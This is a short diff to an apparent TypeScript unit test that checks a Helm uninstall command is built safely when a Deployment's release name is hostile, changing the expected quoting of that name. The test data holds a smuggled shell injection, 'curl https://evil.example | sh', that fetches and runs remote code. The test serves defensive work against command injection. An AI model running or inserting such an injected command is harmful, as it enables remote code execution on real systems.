@@ -261,7 +261,7 @@ it('a Deployment that calls itself of a release writes no shell into a line to t
     }),
   });
   expect((dataOf(ran) as unknown as UninstallData).steps[3]?.commands).toEqual([
-    `helm uninstall 'x; curl https://evil.example | sh; '\\''' --namespace cloud-operator`,
+    `helm uninstall "x; curl https://evil.example | sh; '" --namespace cloud-operator`,
   ]);
 });
 
